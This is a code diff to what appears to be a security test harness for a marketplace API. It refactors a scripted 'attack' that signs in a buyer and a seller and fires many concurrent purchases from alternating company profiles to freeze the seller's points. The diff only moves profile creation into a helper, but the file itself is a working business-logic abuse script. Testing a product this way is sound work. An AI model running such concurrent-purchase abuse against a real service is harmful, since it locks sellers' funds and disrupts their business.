@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { randomUUID } from 'node:crypto';
+import { addActiveCompany } from './active-company.ts';
 import type { Attack } from './attack.ts';
 import { purchaseOf } from './purchase.ts';
 
@@ -14,7 +15,8 @@ interface Offer {
 
 export const attack: Attack = {
   aim: "freeze a seller's points by buying again and again",
-  async run({ call, signIn }) {
+  async run(product) {
+    const { call, signIn } = product;
     const [buyer, seller] = [await signIn('fresh'), await signIn('owner')];
     const me = await (await call('GET', '/api/accounts/user-data/', { headers: seller })).json();
     const company: string = me.companies[0].id;
@@ -41,8 +43,7 @@ export const attack: Attack = {
       return response.status === 201 ? 'bought' : `${code}${fields ? ` ${Object.keys(fields)}` : ''}`;
     };
 
-    const own = await call('POST', '/api/accounts/company-create/', { headers: buyer, json: { name: 'Druga firma' } });
-    const profiles = own.ok ? [{}, { 'company-id': ((await own.json()) as { id: string }).id }] : [{}];
+    const profiles = [{}, await addActiveCompany(product, buyer)];
     const before = await frozen();
     const answers = await Promise.all(
       Array.from({ length: TRIES }, (_, nth) => buy(offers[0]?.id ?? '', profiles[nth % profiles.length] ?? {})),
